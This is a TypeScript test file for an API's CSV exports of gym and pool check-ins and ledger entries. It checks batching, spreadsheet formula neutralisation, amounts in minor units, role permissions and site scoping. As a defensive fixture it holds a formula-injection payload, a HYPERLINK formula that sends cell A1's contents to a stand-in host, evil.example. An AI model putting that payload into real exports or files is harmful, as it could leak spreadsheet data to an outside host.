/**
 * CSV exports of check-ins and the ledger (Postgres, Hono's app.request): a
 * header and every row once across the stream's batches, cells a spreadsheet
 * will not run as formulas, amounts as integer minor units with currency,
 * who may export what, and site scoping.
 */
import { Registry } from "@paylane/protocol";
import { Hono } from "hono";
import { Registry as MetricsRegistry } from "prom-client";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { createApi } from "../src/api/app.ts";
import { mintOperatorToken, type OperatorEnv, type Role } from "../src/api/auth.ts";
import { exportRoutes, spreadsheetSafe } from "../src/api/exports.ts";
import type { Database } from "../src/db/database.ts";
import { operatorRequestKey, post } from "../src/ledger/ledger.ts";
import { MemoryPresence } from "../src/presence/memory-presence.ts";
import { seedSite } from "../src/seed.ts";
import { openTestSchema } from "./console-db.ts";

const SECRET = "a-test-secret-of-at-least-32-characters!";
const DAY = new Date("2026-12-01T00:00:00Z");
const at = (minutes: number) => new Date(DAY.getTime() + minutes * 60_000);
const EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

let db: Database;
let drop: () => Promise<void>;
let app: ReturnType<typeof createApi>;
/** The export routes alone with 4-row batches, so a few rows cross many batch edges. */
const small = new Hono<OperatorEnv>();

test.before(async () => {
  // A Postgres schema of its own: PGlite's open alone takes ten seconds and more on a busy machine.
  const schema = await openTestSchema("exports");
  db = schema.db;
  drop = schema.drop;
  await seedSite(db, { id: "s1", name: "Harbour Gym", timezone: "UTC" });
  await seedSite(db, { id: "s2", name: "Hill Pool", timezone: "UTC" });
  await db.query(
    "INSERT INTO members (site_id, id, name, card_uid, code, status, version) VALUES ('s1', 'm-evil', $1, 'EE01', 'EVIL1', 'active', 1)",
    [EVIL_NAME],
  );
  for (const d of ["k1", "k2"]) await db.query("INSERT INTO devices (site_id, id) VALUES ('s1', $1)", [d]);
  await db.query("INSERT INTO devices (site_id, id) VALUES ('s2', 'x1')");
  // 21 check-ins at s1 (two share a time: the keyset must not lose or repeat either), 3 at s2.
  const rows: Array<[string, string, number, number, string]> = [];
  for (let i = 1; i <= 20; i++) rows.push(["s1", i % 2 ? "k1" : "k2", i, i * 10, i === 7 ? "m-evil" : "m-ada"]);
  rows.push(["s1", "k2", 21, 7 * 10, "m-grace"]);
  for (let i = 1; i <= 3; i++) rows.push(["s2", "x1", i, i * 10 + 5, "m-alan"]);
  let n = 0;
  for (const [site, device, seq, minutes, member] of rows) {
    n++;
    await db.query(
      `INSERT INTO inbox (site_id, device_id, seq, entry_id, kind, outcome, at, body, received_at)
       VALUES ($1, $2, $3, $4, 'checkin', 'applied', $5, $6, $5)`,
      [
        site,
        device,
        seq,
        `00000000-0000-4000-8000-${String(n).padStart(12, "0")}`,
        at(minutes),
        JSON.stringify({ memberId: member, credential: { type: "card" }, replicaVersion: 1 }),
      ],
    );
  }
  await db.transaction(async (tx) => {
    await post(tx, {
      site: "s1",
      memberId: "m-ada",
      kind: "purchase",
      amount: -250,
      currency: "EUR",
      requestKey: "kiosk:k1:p-1",
      origin: { device: "k1" },
      authorization: "online",
      itemId: "coffee",
      at: at(100),
      recordedAt: at(100),
    });
    await post(tx, {
      site: "s1",
      memberId: "m-ada",
      kind: "adjustment",
      amount: 1,
      currency: "EUR",
      requestKey: operatorRequestKey("ops-finance", "adj-1"),
      origin: { operator: "ops-finance" },
      note: "@SUM(1+1) -- a note typed by an operator",
      at: at(200),
      recordedAt: at(200),
    });
  });
  const registry = new Registry({ version: 1, devices: [], services: [] });
  app = createApi({
    db,
    presence: new MemoryPresence(),
    registry: () => registry,
    metrics: new MetricsRegistry(),
    health: async () => ({ status: "ok" }),
    jwtSecret: SECRET,
  });
  small.route("/", exportRoutes({ db, tokens: { secret: SECRET }, batchRows: 4 }));
});
test.after(async () => {
  await drop();
});

const bearer = async (role: Role, sites?: string[]) =>
  `Bearer ${await mintOperatorToken(SECRET, { sub: `ops-${role}`, role, sites })}`;

/** RFC 4180 as csv-stringify writes it: quoted fields may hold commas, quotes (doubled) and newlines. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n") {
      row.push(cell);
      out.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell !== "" || row.length > 0) out.push([...row, cell]);
  return out;
}

async function csv(
  path: string,
  auth: string,
  via: { request: (p: string, i: RequestInit) => Response | Promise<Response> } = app,
): Promise<{ status: number; headers: Headers; rows: string[][]; text: string }> {
  const res = await via.request(path, { headers: { authorization: auth } });
  const text = await res.text();
  return { status: res.status, headers: res.headers, rows: res.ok ? parseCsv(text) : [], text };
}

test("check-ins: a header, then every row once across batches, oldest first, as an attachment", async () => {
  const r = await csv("/api/v1/exports/checkins.csv?site=s1", await bearer("viewer"), small);
  assert.is(r.status, 200);
  assert.is(r.headers.get("content-type"), "text/csv; charset=utf-8");
  assert.is(r.headers.get("content-disposition"), 'attachment; filename="checkins-s1.csv"');
  const [header, ...rows] = r.rows;
  assert.equal(header, [
    "id",
    "site",
    "device",
    "seq",
    "at",
    "received_at",
    "member_id",
    "member_name",
    "credential",
    "offline",
    "replica_version",
  ]);
  assert.is(rows.length, 21, "21 check-ins at s1 through 4-row batches");
  assert.is(new Set(rows.map((x) => x[0])).size, 21, "none repeated");
  const times = rows.map((x) => x[4]!);
  assert.equal([...times].sort(), times, "oldest first");
  assert.is(times.filter((t) => t === at(70).toISOString()).length, 2, "both check-ins sharing a time");
  assert.equal([...new Set(rows.map((x) => x[9]))], ["false"], "offline: the word, not an empty cell");
  assert.ok(
    rows.every((x) => x[1] === "s1"),
    "only s1",
  );
  // The same through the mounted app (1000-row batches).
  const whole = await csv("/api/v1/exports/checkins.csv", await bearer("viewer"));
  assert.is(whole.rows.length, 1 + 24, "every site for an unscoped token");
});

test("a formula in a cell is neutralised: member names and ledger notes start with ' , numbers stay numbers", async () => {
  const checkins = await csv("/api/v1/exports/checkins.csv?site=s1", await bearer("viewer"));
  const evil = checkins.rows.find((x) => x[6] === "m-evil")!;
  assert.is(evil[7], `'${EVIL_NAME}`, "shown as text, not run");
  assert.ok(!/^[=+\-@]/.test(evil[7]!));
  const ledger = await csv("/api/v1/exports/ledger.csv?site=s1", await bearer("finance"));
  const note = ledger.rows.find((x) => x[5] === "adjustment")!;
  assert.is(note[15], "'@SUM(1+1) -- a note typed by an operator");
  for (const v of ["=1+1", "+1", "-1+2", "@x", "\tx", "\rx"]) assert.is(spreadsheetSafe(v), `'${v}`);
  assert.is(spreadsheetSafe(-250), -250, "an amount is a number, not text");
  assert.is(spreadsheetSafe("plain"), "plain");
});

test("ledger: amounts in integer minor units with their currency, every entry once", async () => {
  const r = await csv("/api/v1/exports/ledger.csv?site=s1", await bearer("finance"), small);
  assert.is(r.status, 200);
  assert.is(r.headers.get("content-disposition"), 'attachment; filename="ledger-s1.csv"');
  const [header, ...rows] = r.rows;
  assert.equal(header!.slice(0, 9), [
    "id",
    "site",
    "recorded_at",
    "at",
    "member_id",
    "kind",
    "amount_minor",
    "currency",
    "balance_after_minor",
  ]);
  const { rows: expected } = await db.query<{ n: number }>(
    "SELECT count(*)::int AS n FROM ledger_entries WHERE site_id = 's1'",
  );
  assert.is(rows.length, expected[0]!.n, "every entry of s1 (opening balances, a purchase, an adjustment)");
  assert.is(new Set(rows.map((x) => x[0])).size, rows.length);
  const purchase = rows.find((x) => x[5] === "purchase")!;
  assert.equal([purchase[6], purchase[7], purchase[8]], ["-250", "EUR", "2250"], "-2.50 EUR as -250");
});

test("since (inclusive) and until (exclusive) bound the rows; since after until is a 400", async () => {
  const r = await csv(
    `/api/v1/exports/checkins.csv?site=s1&since=${at(50).toISOString()}&until=${at(100).toISOString()}`,
    await bearer("viewer"),
    small,
  );
  assert.equal(
    r.rows.slice(1).map((x) => x[4]),
    [at(50), at(60), at(70), at(70), at(80), at(90)].map((d) => d.toISOString()),
  );
  assert.is(r.headers.get("content-disposition"), 'attachment; filename="checkins-s1-2026-12-01-2026-12-01.csv"');
  const bad = await csv(
    `/api/v1/exports/checkins.csv?since=${at(100).toISOString()}&until=${at(50).toISOString()}`,
    await bearer("viewer"),
  );
  assert.is(bad.status, 400);
  assert.match(bad.text, /since: must be before until/);
  const notTime = await csv("/api/v1/exports/ledger.csv?since=yesterday", await bearer("finance"));
  assert.is(notTime.status, 400);
  assert.match(notTime.text, /since/);
});

test("a viewer or an operator cannot export the ledger (403); finance and admin can; no token is 401", async () => {
  for (const role of ["viewer", "operator"] as const) {
    const r = await csv("/api/v1/exports/ledger.csv", await bearer(role));
    assert.is(r.status, 403, role);
    assert.match(r.text, /needs money:read/);
    assert.ok(!r.text.includes("m-ada"), "no ledger row in the refusal");
  }
  for (const role of ["finance", "admin"] as const) {
    assert.is((await csv("/api/v1/exports/ledger.csv", await bearer(role))).status, 200, role);
  }
  const none = await app.request("/api/v1/exports/checkins.csv");
  assert.is(none.status, 401);
});

test("site scoping: a site-B token exports only site B, and asking for site A is 403", async () => {
  const b = await bearer("admin", ["s2"]);
  const own = await csv("/api/v1/exports/checkins.csv", b);
  assert.is(own.status, 200);
  assert.equal(
    own.rows.slice(1).map((x) => x[1]),
    ["s2", "s2", "s2"],
  );
  assert.ok(own.rows.slice(1).every((x) => x[1] === "s2"));
  assert.is((await csv("/api/v1/exports/checkins.csv?site=s1", b)).status, 403);
  assert.is((await csv("/api/v1/exports/ledger.csv?site=s1", b)).status, 403);
  const ledger = await csv("/api/v1/exports/ledger.csv", b);
  assert.ok(ledger.rows.length > 1 && ledger.rows.slice(1).every((x) => x[1] === "s2"));
  const twoSites = await csv("/api/v1/exports/ledger.csv", await bearer("finance", ["s1", "s2"]));
  assert.is(twoSites.status, 400, "a token of several sites names one");
});

test.run();
